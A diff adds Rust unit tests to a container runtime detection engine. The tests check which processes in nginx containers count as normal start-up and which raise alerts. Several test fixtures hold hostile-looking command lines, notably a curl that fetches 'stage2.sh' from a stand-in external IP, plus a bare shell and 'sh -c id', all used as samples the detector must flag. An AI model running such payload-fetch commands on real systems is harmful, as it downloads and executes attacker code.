@@ -1143,3 +1143,290 @@ fn endpoint(ip: std::net::IpAddr, port: Option<u16>) -> String {
 fn quote(s: &str) -> String {
     format!("'{s}'")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::provenance::ProvenanceView;
+    use crate::Engine;
+    use pullwatch_model::{EventKind, Format, Placement, ProcessExec, SourceRef};
+
+    const REPO: &str = "docker.io/library/nginx";
+    const KNOWN: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
+    const NEW: &str = "sha256:2222222222222222222222222222222222222222222222222222222222222222";
+    const EVIL: &str = "sha256:6666666666666666666666666666666666666666666666666666666666666666";
+    const ID: &str = "3f9c2a7d1e8b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d";
+
+    fn t(s: i64) -> Ts {
+        Ts(1_800_000_000_000_000_000 + s * 1_000_000_000)
+    }
+
+    fn lineage(pid: Option<u32>, ppid: Option<u32>) -> Lineage {
+        Lineage {
+            pid,
+            ppid,
+            exec: false,
+        }
+    }
+
+    /// A process in a container started at `t(0)`, as Tetragon reports one.
+    fn proc_in(at: i64, image: &str, exe: &str, cmdline: &str, lineage: Lineage) -> Event {
+        Event::new(
+            t(at),
+            SourceRef {
+                format: Format::Tetragon,
+                path: Arc::from("tetragon.jsonl"),
+                line: at as u64,
+            },
+            EventKind::Process(ProcessExec {
+                placement: Placement::Container(ContainerRef {
+                    host: Some(pullwatch_model::name("node-1")),
+                    id: Some(pullwatch_model::name(ID)),
+                    name: Some(pullwatch_model::name("web")),
+                    pod: Some(pullwatch_model::name("web-7d9f8")),
+                    namespace: Some(pullwatch_model::name("shop")),
+                    image: Some(ImageRef::parse(image)),
+                    started_at: Some(t(0)),
+                }),
+                pid: Some(4000 + at as u32),
+                ppid: None,
+                exe: pullwatch_model::name(exe),
+                cmdline: cmdline.to_string(),
+                parent_exe: None,
+                user: None,
+                lineage,
+            }),
+        )
+    }
+
+    fn nginx(digest: &str) -> String {
+        format!("nginx:1.28@{digest}")
+    }
+
+    /// nginx's official start-up: `/docker-entrypoint.sh` as pid 1 running its scripts.
+    fn startup(image: &str) -> Vec<Event> {
+        vec![
+            proc_in(
+                1,
+                image,
+                "/bin/sh",
+                "/bin/sh /docker-entrypoint.sh nginx -g daemon off;",
+                lineage(Some(1), None),
+            ),
+            proc_in(
+                2,
+                image,
+                "/bin/sh",
+                "sh -c /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
+                lineage(Some(23), Some(1)),
+            ),
+        ]
+    }
+
+    fn scan(baseline: bool, events: Vec<Event>) -> (Vec<Alert>, EngineStats) {
+        let mut engine = Engine::new(Config::default());
+        if baseline {
+            let mut view = ProvenanceView::new();
+            view.add_digest(REPO, KNOWN);
+            engine = engine.with_provenance(view);
+        }
+        let mut alerts = Vec::new();
+        for ev in events {
+            engine.push(ev, &mut alerts);
+        }
+        engine.finish(&mut alerts);
+        (alerts, engine.stats())
+    }
+
+    #[test]
+    fn an0691_entrypoint_of_a_new_allowlisted_digest_is_start_up() {
+        let (alerts, stats) = scan(true, startup(&nginx(NEW)));
+        assert!(alerts.is_empty(), "{alerts:#?}");
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));
+    }
+
+    #[test]
+    fn an0691_deeper_or_exec_processes_of_a_new_digest_still_alert() {
+        let image = nginx(NEW);
+        // A curl two levels below the entrypoint.
+        let mut events = startup(&image);
+        events.push(proc_in(
+            5,
+            &image,
+            "/usr/bin/curl",
+            "curl -fsSL http://198.51.100.23/x",
+            lineage(Some(40), Some(23)),
+        ));
+        let (alerts, stats) = scan(true, events);
+        assert_eq!(alerts.len(), 1, "{alerts:#?}");
+        let a = &alerts[0];
+        assert_eq!(a.severity, Severity::Medium);
+        assert!(a.reasons[0].contains("is not in the baseline"), "{a:#?}");
+        assert!(
+            a.reasons.iter().any(|r| r.starts_with(
+                "2 earlier process(es) of the container's own start-up"
+            )),
+            "{:#?}",
+            a.reasons
+        );
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));
+
+        // An exec'd shell: its parent is the runtime, outside the container.
+        let mut events = startup(&image);
+        events.push(proc_in(
+            5,
+            &image,
+            "/bin/sh",
+            "sh",
+            lineage(Some(57), None),
+        ));
+        let (alerts, _) = scan(true, events);
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].severity, Severity::Medium);
+
+        // Marked as an exec by its source, even at pid 1's level.
+        let exec = Lineage {
+            pid: None,
+            ppid: Some(1),
+            exec: true,
+        };
+        let (alerts, _) = scan(true, vec![proc_in(5, &image, "/bin/sh", "sh", exec)]);
+        assert_eq!(alerts.len(), 1);
+        // Without in-container pids and without a pod spec: nothing says it is start-up.
+        let (alerts, _) = scan(
+            true,
+            vec![proc_in(5, &image, "/bin/sh", "sh", Lineage::default())],
+        );
+        assert_eq!(alerts.len(), 1);
+    }
+
+    #[test]
+    fn an0691_untrusted_or_moved_images_entrypoints_still_alert() {
+        let evil = format!("docker.io/kitty0x/toolbox:latest@{EVIL}");
+        let events = vec![proc_in(
+            3,
+            &evil,
+            "/usr/bin/curl",
+            "curl -fsSL http://198.51.100.23/stage2.sh",
+            lineage(Some(1), None),
+        )];
+        let (alerts, stats) = scan(true, events.clone());
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].severity, Severity::High);
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
+        let (alerts, _) = scan(false, events);
+        assert_eq!(alerts.len(), 1);
+
+        // The tag the baseline knew now resolves elsewhere: raised, and not excused.
+        let mut engine = Engine::new(Config::default());
+        let mut view = ProvenanceView::new();
+        view.add_tag_digest(REPO, "1.28", KNOWN);
+        engine = engine.with_provenance(view);
+        let mut alerts = Vec::new();
+        for ev in startup(&nginx(NEW)) {
+            engine.push(ev, &mut alerts);
+        }
+        engine.finish(&mut alerts);
+        assert_eq!(alerts.len(), 1, "{alerts:#?}");
+        assert_eq!(alerts[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn an0691_known_digest_and_no_baseline_are_unchanged() {
+        // A digest the baseline knows makes no chain, start-up or not.
+        let (alerts, stats) = scan(true, startup(&nginx(KNOWN)));
+        assert!(alerts.is_empty());
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
+        let (alerts, _) = scan(false, startup(&nginx(NEW)));
+        assert!(alerts.is_empty());
+    }
+
+    #[test]
+    fn an0691_pod_spec_command_is_start_up_for_records_without_pids() {
+        let image = nginx(NEW);
+        let create = Event::new(
+            t(-2),
+            SourceRef {
+                format: Format::K8sAudit,
+                path: Arc::from("audit.jsonl"),
+                line: 1,
+            },
+            EventKind::PodCreate(PodCreate {
+                namespace: "shop".into(),
+                pod: "web-7d9f8".into(),
+                node: Some("node-1".into()),
+                containers: vec![pullwatch_model::PodContainerSpec {
+                    name: "web".into(),
+                    image: ImageRef::parse(&image),
+                    image_raw: image.clone(),
+                    pull_policy: None,
+                    kind: pullwatch_model::PodContainerKind::Regular,
+                    command: vec!["/bin/sh".into(), "-c".into()],
+                    args: vec!["exec nginx -g 'daemon off;'".into()],
+                }],
+                actor: None,
+            }),
+        );
+        let spec_run = proc_in(
+            1,
+            &image,
+            "/bin/sh",
+            "sh -c exec nginx -g 'daemon off;'",
+            Lineage::default(),
+        );
+        let (alerts, stats) = scan(true, vec![create.clone(), spec_run]);
+        assert!(alerts.is_empty(), "{alerts:#?}");
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&1));
+        // Another command line is not the spec's.
+        let other = proc_in(1, &image, "/bin/sh", "sh -c id", Lineage::default());
+        let (alerts, _) = scan(true, vec![create, other]);
+        assert_eq!(alerts.len(), 1);
+    }
+
+    #[test]
+    fn an0691_start_up_by_pids_or_spec() {
+        let spec: Vec<String> = vec!["nginx".into(), "-g".into(), "daemon off;".into()];
+        assert!(runs_argv(&spec, "/usr/sbin/nginx", "/usr/sbin/nginx -g daemon off;"));
+        assert!(runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon off;"));
+        assert!(!runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon"));
+        assert!(!runs_argv(&spec, "/usr/bin/curl", "curl -g daemon off;"));
+        assert!(!runs_argv(&[], "/bin/sh", "sh"));
+        // Pids, where the record has them, decide; the spec is for records without.
+        let none = Lineage::default();
+        assert!(is_startup(&lineage(Some(1), None), None, "sh", "sh"));
+        assert!(is_startup(&lineage(Some(9), Some(1)), None, "sh", "sh"));
+        assert!(!is_startup(&lineage(Some(9), Some(8)), None, "sh", "sh"));
+        assert!(!is_startup(
+            &lineage(Some(9), Some(8)),
+            Some(&spec),
+            "nginx",
+            "nginx -g daemon off;"
+        ));
+        assert!(is_startup(&none, Some(&spec), "nginx", "nginx -g daemon off;"));
+        assert!(!is_startup(&none, None, "nginx", "nginx -g daemon off;"));
+        let exec = Lineage {
+            exec: true,
+            ..lineage(Some(1), None)
+        };
+        assert!(!is_startup(&exec, Some(&spec), "nginx", "nginx -g daemon off;"));
+    }
+
+    #[test]
+    fn an0691_host_pid_namespace_says_nothing() {
+        // hostPID: the in-namespace pids are the host's, so pid 1's child is no start-up.
+        assert_eq!(
+            Lineage::from_pids(Some(812), Some(812), Some(1), Some(1)),
+            Lineage::default()
+        );
+        assert_eq!(
+            Lineage::from_pids(Some(4001), Some(1), Some(3990), None),
+            lineage(Some(1), None)
+        );
+        // 0 is Falco's "parent outside the namespace".
+        assert_eq!(
+            Lineage::from_pids(Some(4001), Some(7), Some(3990), Some(0)),
+            lineage(Some(7), None)
+        );
+    }
+}
